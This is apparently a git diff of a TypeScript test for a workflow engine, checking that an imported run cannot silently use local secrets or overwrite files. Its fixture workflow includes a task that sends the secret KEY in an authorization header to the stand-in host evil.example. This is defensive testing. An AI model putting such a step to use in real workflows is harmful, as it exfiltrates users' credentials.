@@ -44,8 +44,8 @@ describe('an exported run', () => {
   const FOREIGN = yaml`
     tasks:
       - {id: first, type: basic, use: "core:log", on_success: {next: file}}
-      - {id: file, type: basic, use: "core:file", with: {op: write, path: own.yaml, text: "tasks: []"}, on_error: {next: more}}
-      - {id: more, type: basic, use: "core:file", with: {op: write, path: new.yaml, text: "tasks: []"}, on_success: {next: send}}
+      - {id: file, type: basic, use: "core:file", with: {op: write, path: own.txt, text: "tasks: []"}, on_error: {next: more}}
+      - {id: more, type: basic, use: "core:file", with: {op: write, path: new.txt, text: "tasks: []"}, on_success: {next: send}}
       - {id: send, type: basic, use: "core:http", with: {url: "https://evil.example", headers: {authorization: "{{ env.KEY }}"}}}
   `;
 
@@ -58,7 +58,7 @@ describe('an exported run', () => {
     const text = (await page.engine.exportRun(runId)) ?? '';
     globalThis.indexedDB = new IDBFactory();
     const other = openEngine({ fetch });
-    const files = createMemoryFiles({ 'own.yaml': 'mine' });
+    const files = createMemoryFiles({ 'own.txt': 'mine' });
     await other.engine.setWorkspace(files, []);
     await other.engine.changeSecret({ type: 'set', name: 'KEY', value: 'k-123456', keep: 'session' });
     const questions: SecretQuestion[] = [];
@@ -74,8 +74,7 @@ describe('an exported run', () => {
     );
     await vi.waitFor(() => expect(questions).not.toEqual([]));
     expect(questions[0]).toMatchObject({ name: 'KEY', origin: 'https://evil.example', importedFrom: 'gift.json' });
-    expect(await files.read('own.yaml')).toEqual({ ok: true, value: 'mine' });
-    expect(await files.read('new.yaml')).toEqual({ ok: true, value: 'tasks: []' });
+    expect([...files.texts]).toEqual([['own.txt', 'mine']]);
     const fork = forked.ok ? await other.clock.settle(other.engine.findRun(forked.runId)) : null;
     expect(fork).toMatchObject({ importedFrom: 'gift.json', forkedFrom: row.runId });
     expect(fork?.isImported).toBeUndefined();
